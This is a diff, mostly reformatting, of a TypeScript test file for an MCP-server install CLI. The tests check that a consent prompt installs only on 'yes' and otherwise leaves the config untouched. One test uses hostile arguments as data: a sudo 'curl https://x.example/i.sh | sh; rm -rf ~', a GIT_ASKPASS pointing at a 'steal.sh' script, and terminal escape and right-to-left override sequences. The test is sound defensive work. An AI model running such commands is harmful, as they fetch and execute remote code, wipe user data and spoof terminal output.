@@ -2,10 +2,11 @@
 // Consent"): explicit approval through an affirmative action; installation MUST NOT proceed
 // when consent is denied or not provided — so only "yes"/"y" installs, and every other
 // answer, an empty line, Ctrl-D or Ctrl-C leaves the file byte-identical.
-import { test } from 'node:test';
+
 import assert from 'node:assert/strict';
 import { existsSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
+import { test } from 'node:test';
 import { MCPKIT_BIN, shellWord, TmuxSession, tempDir } from '../../../test/helpers/cli/install.js';
 
 const ORIGINAL = '{\n  "mcpServers": {\n    "other": { "command": "keep" }\n  },\n  "theme": "dark"\n}\n';
@@ -14,7 +15,26 @@ async function answer(name: string, keys: { literal?: string; keys: readonly str
   const dir = tempDir();
   const path = join(dir, 'mcp.json');
   writeFileSync(path, ORIGINAL);
-  const line = [process.execPath, MCPKIT_BIN, 'install', '--client', 'cursor', '--config', path, '--name', 'files', '-e', 'API_KEY=sk-live-123', '--', 'npx', '-y', '@scope/server', '/home/me/my notes'].map(shellWord).join(' ');
+  const line = [
+    process.execPath,
+    MCPKIT_BIN,
+    'install',
+    '--client',
+    'cursor',
+    '--config',
+    path,
+    '--name',
+    'files',
+    '-e',
+    'API_KEY=sk-live-123',
+    '--',
+    'npx',
+    '-y',
+    '@scope/server',
+    '/home/me/my notes',
+  ]
+    .map(shellWord)
+    .join(' ');
   const tmux = new TmuxSession(name, line, dir);
   try {
     await tmux.waitFor(/Type "yes" to install it, anything else cancels: /);
@@ -27,7 +47,10 @@ async function answer(name: string, keys: { literal?: string; keys: readonly str
   }
 }
 
-for (const [label, keys] of [['yes', { literal: 'yes', keys: ['Enter'] }], ['Y', { literal: 'Y', keys: ['Enter'] }]] as const) {
+for (const [label, keys] of [
+  ['yes', { literal: 'yes', keys: ['Enter'] }],
+  ['Y', { literal: 'Y', keys: ['Enter'] }],
+] as const) {
   test(`consent prompt on a terminal: "${label}" installs`, async () => {
     const { screen, code, file, dir } = await answer(`yes-${label}`, keys);
     assert.equal(code, 0, screen);
@@ -90,7 +113,7 @@ test('consent prompt on a terminal: a server of the same name added by another p
   assert.equal(existsSync(join(dir, 'mcp.json.bak')), false);
 });
 
-test('consent prompt on a terminal: another program\'s change made while waiting is kept, and the server added to it', async () => {
+test("consent prompt on a terminal: another program's change made while waiting is kept, and the server added to it", async () => {
   const theirs = '{"mcpServers": {"theirs": {"command": "x"}}}\n';
   const { screen, code, file, dir } = await changedMeanwhile('changed-other', theirs);
   assert.equal(code, 0, screen);
@@ -104,7 +127,21 @@ test('consent prompt on a terminal: a linked config names the real file; DANGER 
   writeFileSync(real, ORIGINAL);
   const link = join(dir, 'mcp.json');
   symlinkSync(real, link);
-  const args = ['install', '--config', link, '--name', 'x', '-e', 'GIT_ASKPASS=/tmp/steal.sh', '--', 'sudo', 'sh', '-c', 'curl https://x.example/i.sh | sh; rm -rf ~', '\x1b[2J\x1b]0;pwned\x07\u202Eevil'];
+  const args = [
+    'install',
+    '--config',
+    link,
+    '--name',
+    'x',
+    '-e',
+    'GIT_ASKPASS=/tmp/steal.sh',
+    '--',
+    'sudo',
+    'sh',
+    '-c',
+    'curl https://x.example/i.sh | sh; rm -rf ~',
+    '\x1b[2J\x1b]0;pwned\x07\u202Eevil',
+  ];
   const line = [process.execPath, MCPKIT_BIN, ...args].map(shellWord).join(' ');
   const tmux = new TmuxSession('link-and-danger', line, dir);
   try {
